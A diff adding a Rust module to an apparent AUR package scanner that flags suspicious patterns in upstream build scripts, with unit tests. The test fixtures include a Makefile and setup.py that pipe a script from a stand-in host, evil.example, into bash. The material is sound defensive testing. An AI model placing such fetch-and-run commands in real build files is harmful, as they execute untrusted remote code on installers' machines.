@@ -0,0 +1,80 @@
+use crate::features::Feature;
+use crate::shared::models::PackageContext;
+use crate::shared::patterns::PatternEngine;
+use crate::shared::scoring::{Signal, SignalCategory};
+
+/// Prefix of the signal IDs, on top of the `pkgbuild_analysis` pattern ID.
+pub const PREFIX: &str = "UP-";
+
+/// Runs the `pkgbuild_analysis` patterns over the build scripts of the upstream
+/// tarball (deep mode). Fires nothing unless `upstream_build_files` was fetched.
+pub struct UpstreamSourceAnalysis;
+
+impl Feature for UpstreamSourceAnalysis {
+    fn analyze(&self, ctx: &PackageContext) -> Vec<Signal> {
+        let mut signals: Vec<Signal> = Vec::new();
+        for (path, content) in &ctx.upstream_build_files {
+            let file = path.rsplit('/').next().unwrap_or(path);
+            for mut signal in PatternEngine::scan(content, "pkgbuild_analysis", SignalCategory::Pkgbuild, PREFIX) {
+                if signals.iter().any(|s| s.id == signal.id) {
+                    continue;
+                }
+                // Upstream build systems fetch tooling more often than PKGBUILDs do:
+                // scored, but never a gate on its own
+                signal.is_override_gate = false;
+                signal.description = format!("{} (in upstream {file})", signal.description);
+                signals.push(signal);
+            }
+        }
+        signals
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn analyze(files: &[(&str, &str)]) -> Vec<Signal> {
+        let ctx = PackageContext {
+            name: "foo".into(),
+            metadata: None,
+            pkgbuild_content: Some("pkgname=foo\nsource=(git+https://github.com/someone/foo)\n".into()),
+            install_script_content: None,
+            prior_pkgbuild_content: None,
+            git_log: vec![],
+            maintainer_packages: vec![],
+            github_stars: None,
+            github_not_found: false,
+            aur_comments: vec![],
+            artifact: None,
+            github_releases: None,
+            repo_files: Vec::new(),
+            trusted_domains: Vec::new(),
+            protected_names: Vec::new(),
+            sibling_commits: Vec::new(),
+            maintainer_account: None,
+            upstream_build_files: files.iter().map(|(p, c)| (p.to_string(), c.to_string())).collect(),
+            history_rewrite: None,
+        };
+        UpstreamSourceAnalysis.analyze(&ctx)
+    }
+
+    #[test]
+    fn injected_makefile_and_setup_py() {
+        let signals = analyze(&[
+            ("foo-1.0/Makefile", "all:\n\tcc -o foo foo.c\n\tcurl -s https://evil.example/x.sh | bash\n"),
+            ("foo-1.0/setup.py", "import os\nos.system('curl -s https://evil.example/x.sh | bash')\n"),
+        ]);
+        let curl = signals.iter().find(|s| s.id == "UP-P-CURL-PIPE").expect("curl pipe in Makefile");
+        assert!(curl.description.ends_with("(in upstream Makefile)"), "{}", curl.description);
+        assert!(!curl.is_override_gate);
+        assert_eq!(curl.category, SignalCategory::Pkgbuild);
+        assert_eq!(signals.iter().filter(|s| s.id == "UP-P-CURL-PIPE").count(), 1);
+    }
+
+    #[test]
+    fn clean_build_scripts_and_no_deep_mode() {
+        assert!(analyze(&[("foo-1.0/Makefile", "all:\n\tcc -o foo foo.c\ninstall:\n\tinstall -Dm755 foo $(DESTDIR)/usr/bin/foo\n")]).is_empty());
+        assert!(analyze(&[]).is_empty());
+    }
+}